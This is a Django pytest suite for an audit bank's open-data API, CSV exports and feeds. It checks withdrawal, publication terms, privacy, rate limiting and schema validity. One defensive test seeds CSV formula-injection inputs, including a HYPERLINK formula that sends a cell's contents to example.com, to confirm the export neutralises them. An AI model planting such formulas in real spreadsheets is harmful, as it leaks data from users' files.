"""Open data: every surface (API, CSV files, feeds, start page) shows a published audit and
loses it at once when it is withdrawn; the terms hold (findings, quotes); nothing personal
is in any field; cells are inert in spreadsheets; the rate limit answers 429; query counts
stay flat with more rows; the schema is valid OpenAPI; the licence is said everywhere."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.urls import reverse
from django.utils import translation
from drf_spectacular.generators import SchemaGenerator
from drf_spectacular.validation import validate_schema

from audits.bank import services
from audits.bank.tests.helpers import EVERYTHING, en, published_audit
from audits.models import Audit, Finding
from audits.opendata import datasets, serializers
from audits.opendata.selectors import public_audits, public_findings, public_proposals

pytestmark = pytest.mark.django_db

LICENCE_LINK = '<https://creativecommons.org/licenses/by/4.0/>; rel="license"'


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def api(client, name: str, *args, **params) -> dict:
    response = client.get(reverse(f"api:{name}", args=args), params)
    assert response.status_code == 200, response.content
    return response.json()


def csv_rows(client, name: str, **params) -> list[dict]:
    response = client.get(en(f"open_data:{name}_csv"), params)
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def feed(client, *args) -> str:
    name = "open_data:area_feed" if args else "open_data:feed"
    response = client.get(en(name, *args))
    assert response.status_code == 200
    return response.content.decode()


def surfaces(client, audit: Audit) -> dict[str, bool]:
    """Whether `audit` shows on each open-data surface, read as an anonymous visitor."""
    title = audit.title or audit.reference
    area = audit.units.get().service_area
    finding_ids = set(audit.findings.values_list("pk", flat=True))
    proposal_ids = set(audit.proposals.values_list("pk", flat=True))
    return {
        "api audits": audit.pk in [row["id"] for row in api(client, "audits")["results"]],
        "api audit": client.get(reverse("api:audit", args=[audit.pk])).status_code == 200,
        "api findings": finding_ids <= {row["id"] for row in api(client, "findings")["results"]},
        "api finding": client.get(reverse("api:finding", args=[min(finding_ids)])).status_code
        == 200,
        "api proposals": proposal_ids <= {row["id"] for row in api(client, "proposals")["results"]},
        "api proposal": client.get(reverse("api:proposal", args=[min(proposal_ids)])).status_code
        == 200,
        "audits.csv": str(audit.pk) in [row["id"] for row in csv_rows(client, "audits")],
        "findings.csv": {str(pk) for pk in finding_ids}
        <= {row["id"] for row in csv_rows(client, "findings")},
        "proposals.csv": {str(pk) for pk in proposal_ids}
        <= {row["id"] for row in csv_rows(client, "proposals")},
        "feed": title in feed(client),
        "area feed": title in feed(client, area),
        "start page": title in client.get(en("home")).content.decode(),
    }


def test_publish_then_withdraw_shows_then_hides_it_on_every_open_data_surface(
    client, commissioner, staff
):
    audit = published_audit(commissioner=commissioner, staff=staff, findings=2)

    shown = surfaces(client, audit)
    assert shown == dict.fromkeys(shown, True)

    services.withdraw(audit=audit, by=staff, reason="Fel i rapporten.")

    # Every list is empty, and each row's own address answers 404, not an empty row.
    gone = {
        "api audits": api(client, "audits")["results"] == [],
        "api audit": client.get(reverse("api:audit", args=[audit.pk])).status_code == 404,
        "api findings": api(client, "findings")["results"] == [],
        "api finding": client.get(
            reverse("api:finding", args=[audit.findings.first().pk])
        ).status_code
        == 404,
        "api proposals": api(client, "proposals")["results"] == [],
        "api proposal": client.get(
            reverse("api:proposal", args=[audit.proposals.first().pk])
        ).status_code
        == 404,
        "audits.csv": csv_rows(client, "audits") == [],
        "findings.csv": csv_rows(client, "findings") == [],
        "proposals.csv": csv_rows(client, "proposals") == [],
        "feed": (audit.title or audit.reference) not in feed(client),
        "area feed": (audit.title or audit.reference)
        not in feed(client, audit.units.get().service_area),
        "start page": (audit.title or audit.reference)
        not in client.get(en("home")).content.decode(),
    }
    assert gone == dict.fromkeys(gone, True)


def test_nothing_unpublished_is_open_data(client, commissioner, staff):
    consented = published_audit(commissioner=commissioner, staff=staff)
    services.withdraw(audit=consented, by=staff, reason="Tillbaka.")
    services.consent(audit=consented, by=commissioner)
    published = published_audit(commissioner=commissioner, staff=staff)

    assert [row["id"] for row in api(client, "audits")["results"]] == [published.pk]
    assert {row["audit"] for row in api(client, "findings")["results"]} == {published.pk}
    assert {row["audit"] for row in api(client, "proposals")["results"]} == {published.pk}
    assert [row["id"] for row in csv_rows(client, "audits")] == [str(published.pk)]


def test_quotes_stay_out_unless_the_terms_allow_them(client, commissioner, staff):
    audit = published_audit(
        commissioner=commissioner, staff=staff, terms={**EVERYTHING, "may_publish_quotes": False}
    )
    finding = audit.findings.first()
    quote = finding.quote_lines()[0]

    findings = api(client, "findings")["results"]
    assert [row["quotes"] for row in findings] == [[]]
    assert findings[0]["title"] == finding.title
    assert api(client, "audits")["results"][0]["quotes_published"] is False
    assert quote not in json.dumps(api(client, "finding", finding.pk), ensure_ascii=False)
    assert all(row["quotes"] == "" for row in csv_rows(client, "findings"))


def test_quotes_are_published_when_the_terms_allow_them(client, commissioner, staff):
    audit = published_audit(commissioner=commissioner, staff=staff)
    finding = audit.findings.first()

    assert api(client, "finding", finding.pk)["quotes"] == finding.quote_lines()
    assert csv_rows(client, "findings")[0]["quotes"] == " | ".join(finding.quote_lines())


def test_findings_stay_out_unless_the_terms_allow_them(client, commissioner, staff):
    audit = published_audit(
        commissioner=commissioner,
        staff=staff,
        terms={**EVERYTHING, "may_publish_findings": False, "may_publish_quotes": False},
    )
    finding = audit.findings.first()

    assert api(client, "findings")["results"] == []
    assert client.get(reverse("api:finding", args=[finding.pk])).status_code == 404
    assert csv_rows(client, "findings") == []
    row = api(client, "audits")["results"][0]
    assert row["findings_published"] is False and row["themes"] == []
    # The proposals are published, but not the findings they build on, nor their themes.
    proposals = api(client, "proposals")["results"]
    assert proposals and all(p["findings"] == [] for p in proposals)
    assert api(client, "proposals", theme=finding.theme)["results"] == []
    assert finding.description not in json.dumps(proposals, ensure_ascii=False)


def test_every_row_has_exactly_the_published_fields(client, commissioner, staff):
    published_audit(commissioner=commissioner, staff=staff)
    # The API's fields are the CSV's columns, and nothing else: no person, no e-mail.
    for name, serializer in (
        ("audits", serializers.AuditSerializer),
        ("findings", serializers.FindingSerializer),
        ("proposals", serializers.ProposalSerializer),
    ):
        expected = set(datasets.DATASETS[name].field_names)
        assert set(serializer().fields) == expected
        assert set(api(client, name)["results"][0]) == expected
        assert set(csv_rows(client, name)[0]) == expected
    assert set(datasets.DATASETS["audits"].field_names) == {
        "id", "reference", "title", "language", "published_at", "year", "commissioner",
        "performed_by", "counties", "municipalities", "service_areas", "units", "methods",
        "themes", "findings_published", "quotes_published", "summary", "easy_read_summary",
        "url",
    }  # fmt: skip
    assert set(datasets.DATASETS["findings"].field_names) == {
        "id", "audit", "audit_reference", "number", "theme", "polarity", "title",
        "description", "quotes",
    }  # fmt: skip
    assert set(datasets.DATASETS["proposals"].field_names) == {
        "id", "audit", "audit_reference", "number", "text", "findings", "response",
        "planned_action", "deadline", "responded_on", "progress", "progress_note",
        "progress_reported_on",
    }  # fmt: skip


def test_no_person_is_named_anywhere(client, commissioner, staff):
    audit = published_audit(commissioner=commissioner, staff=staff, findings=2)
    # Whoever answered also names someone responsible: a person, kept out of open data.
    audit.proposals.update(action_owner="Ansvarig Personsson")
    people = [commissioner, staff, *(m.user for m in audit.members.select_related("user"))]

    bodies = [
        json.dumps(api(client, name), ensure_ascii=False)
        for name in ("audits", "findings", "proposals")
    ]
    bodies += [
        b"".join(client.get(en(f"open_data:{name}_csv")).streaming_content).decode()
        for name in ("audits", "findings", "proposals")
    ]
    bodies.append(feed(client))
    text = "\n".join(bodies)
    assert audit.reference in text
    for person in people:
        for detail in (person.full_name, person.email):
            assert detail and detail not in text
    assert "Ansvarig Personsson" not in text
    assert "@" not in text


def test_csv_cells_never_run_as_formulas(client, commissioner, staff):
    audit = published_audit(commissioner=commissioner, staff=staff)
    Finding.objects.filter(audit=audit).update(
        title='=HYPERLINK("http://example.com/?"&A2,"x")', description="+1+2"
    )
    audit.proposals.update(text="@SUM(A1)", action="-2+3", progress_note="\tcmd")

    finding = csv_rows(client, "findings")[0]
    proposal = csv_rows(client, "proposals")[0]

    assert finding["title"].startswith("'=HYPERLINK")
    assert finding["description"] == "'+1+2"
    assert proposal["text"] == "'@SUM(A1)"
    assert proposal["planned_action"] == "'-2+3"
    assert proposal["progress_note"] == "'\tcmd"


def test_the_files_are_streamed_with_the_licence(client, commissioner, staff):
    published_audit(commissioner=commissioner, staff=staff)
    for name in ("audits", "findings", "proposals"):
        response = client.get(en(f"open_data:{name}_csv"))
        assert response.streaming
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert f'filename="brukarkraft-{name}.csv"' in response["Content-Disposition"]
        assert response["Link"] == LICENCE_LINK
        assert "public" in response["Cache-Control"]


def test_the_files_come_in_chunks_with_their_related_rows(client, commissioner, staff, monkeypatch):
    # Three rows a chunk: each chunk brings its own units, facets and findings.
    monkeypatch.setattr("audits.opendata.views.CHUNK_SIZE", 3)
    audits = [published_audit(commissioner=commissioner, staff=staff) for _ in range(7)]

    rows = csv_rows(client, "audits")
    proposals = csv_rows(client, "proposals")

    assert sorted(int(row["id"]) for row in rows) == sorted(a.pk for a in audits)
    assert all(row["units"] and row["service_areas"] and row["counties"] for row in rows)
    assert len(proposals) == sum(a.proposals.count() for a in audits)
    assert all(row["findings"] for row in proposals)


def test_every_response_states_the_licence_and_is_cacheable(client, commissioner, staff):
    audit = published_audit(commissioner=commissioner, staff=staff)
    for address in (
        reverse("api:audits"),
        reverse("api:audit", args=[audit.pk]),
        reverse("api:findings"),
        reverse("api:proposals"),
        en("open_data:feed"),
    ):
        response = client.get(address)
        assert response["Link"] == LICENCE_LINK, address
        assert "public" in response["Cache-Control"] and "s-maxage=30" in response["Cache-Control"]
    body = api(client, "audits")
    assert body["license"] == {
        "name": "CC BY 4.0",
        "url": "https://creativecommons.org/licenses/by/4.0/",
        "attribution": "Brukarkraft",
    }
    assert "CC BY 4.0" in feed(client)
    page = client.get(en("open_data:page"))
    assert 'rel="license"' in page.content.decode()
    assert "public" in page["Cache-Control"]


def test_filters_by_the_bank_facets(client, commissioner, staff):
    first = published_audit(commissioner=commissioner, staff=staff)
    second = published_audit(commissioner=commissioner, staff=staff)
    unit = first.units.get()
    municipality = unit.municipality.code
    county = unit.municipality.county.code
    year = first.publication.year
    theme = first.findings.first().theme

    def ids(name, **params):
        return sorted(row["id"] for row in api(client, name, **params)["results"])

    assert first.pk in ids("audits", municipality=municipality)
    assert ids("audits", municipality="9999") == []
    assert first.pk in ids("audits", county=county)
    assert ids("audits", year=year) == sorted([first.pk, second.pk])
    assert ids("audits", year=year + 1) == []
    assert first.pk in ids("audits", service_area=unit.service_area)
    assert first.pk in ids("audits", theme=theme)
    other_area = next(a for a in ("lss", "other", "psychiatry") if a != unit.service_area)
    assert first.pk not in ids("audits", service_area=other_area)
    assert {r["theme"] for r in api(client, "findings", theme=theme)["results"]} == {theme}
    assert api(client, "findings", audit=first.pk)["results"][0]["audit"] == first.pk
    assert [r["id"] for r in csv_rows(client, "audits", year=year + 1)] == []
    # An unknown choice is the caller's mistake.
    assert client.get(reverse("api:audits"), {"service_area": "nowhere"}).status_code == 400
    assert client.get(en("open_data:audits_csv"), {"theme": "nowhere"}).status_code == 400


def test_pages_follow_a_cursor(client, commissioner, staff):
    audits = [published_audit(commissioner=commissioner, staff=staff) for _ in range(3)]

    first = api(client, "audits", page_size=2)
    assert [row["id"] for row in first["results"]] == [audits[2].pk, audits[1].pk]
    assert first["previous"] is None and first["next"]
    second = client.get(first["next"]).json()
    assert [row["id"] for row in second["results"]] == [audits[0].pk]
    assert second["next"] is None


def test_too_many_requests_get_429(client, commissioner, staff, settings, empty_cache):
    settings.RATELIMIT_ENABLE = True
    settings.RATE_LIMITS = {**settings.RATE_LIMITS, "open_data": "3/m"}
    published_audit(commissioner=commissioner, staff=staff)

    answers = [client.get(reverse("api:audits")).status_code for _ in range(3)]
    assert answers == [200, 200, 200]
    # The API, the files and the feeds share the one count per address.
    refused = [
        client.get(reverse("api:findings")),
        client.get(en("open_data:audits_csv")),
        client.get(en("open_data:feed")),
    ]
    assert [r.status_code for r in refused] == [429, 429, 429]
    assert "Retry-After" in refused[0]
    assert "public" not in refused[0].get("Cache-Control", "")
    # Another address has its own count.
    assert client.get(reverse("api:audits"), REMOTE_ADDR="10.0.0.9").status_code == 200


def test_query_counts_do_not_grow_with_rows(
    client, commissioner, staff, django_assert_max_num_queries
):
    published_audit(commissioner=commissioner, staff=staff)
    addresses = [
        reverse("api:audits"),
        reverse("api:findings"),
        reverse("api:proposals"),
        en("open_data:feed"),
        en("open_data:page"),
    ]

    def read_all():
        for address in addresses:
            with django_assert_max_num_queries(4):
                client.get(address)
        for name in ("audits", "findings", "proposals"):
            with django_assert_max_num_queries(4):
                b"".join(client.get(en(f"open_data:{name}_csv")).streaming_content)

    read_all()
    for _ in range(4):
        published_audit(commissioner=commissioner, staff=staff, findings=3)
    read_all()
    assert len(api(client, "findings")["results"]) == 13


def test_the_schema_is_valid_openapi_with_the_licence(client):
    response = client.get(reverse("api:schema"), {"format": "json"})
    assert response.status_code == 200
    schema = json.loads(response.content)
    validate_schema(schema)
    assert schema["info"]["license"]["name"] == "CC BY 4.0"
    assert {"/api/v1/audits/", "/api/v1/findings/", "/api/v1/proposals/"} <= set(schema["paths"])
    parameters = {p["name"] for p in schema["paths"]["/api/v1/audits/"]["get"]["parameters"]}
    assert {"service_area", "county", "municipality", "year", "theme", "cursor"} <= parameters
    # The generator agrees with the served schema and finds nothing to warn about.
    assert (
        SchemaGenerator().get_schema(request=None, public=True)["paths"].keys()
        == schema["paths"].keys()
    )


def test_the_pages_about_open_data_in_every_language(client):
    for language in ("sv", "nb", "en"):
        with translation.override(language):
            page = client.get(reverse("open_data:page"))
            feeds = client.get(reverse("open_data:feeds"))
        assert page.status_code == 200 and feeds.status_code == 200
        html = page.content.decode()
        assert f'lang="{language}"' in html
        for name in ("audits_csv", "findings_csv", "proposals_csv"):
            with translation.override(language):
                assert reverse(f"open_data:{name}") in html
        assert "/api/v1/schema/" in html
        assert "application/atom+xml" in html
        assert "/feed/social_psychiatry/" in feeds.content.decode()


def test_the_bank_and_the_start_page_point_to_the_feeds(client):
    bank = client.get(en("bank:list")).content.decode()
    assert '<link rel="alternate" type="application/atom+xml"' in bank
    assert en("open_data:page") in bank
    assert en("open_data:feeds") in client.get(en("home")).content.decode()


def test_an_unknown_service_area_has_no_feed(client):
    assert client.get(en("open_data:area_feed", "nowhere")).status_code == 404


def test_the_selectors_read_only_published_rows(commissioner, staff):
    audit = published_audit(commissioner=commissioner, staff=staff)
    assert list(public_audits()) == [audit]
    services.withdraw(audit=audit, by=commissioner, reason="Ändrat.")
    assert not public_audits().exists()
    assert not public_findings().exists()
    assert not public_proposals().exists()
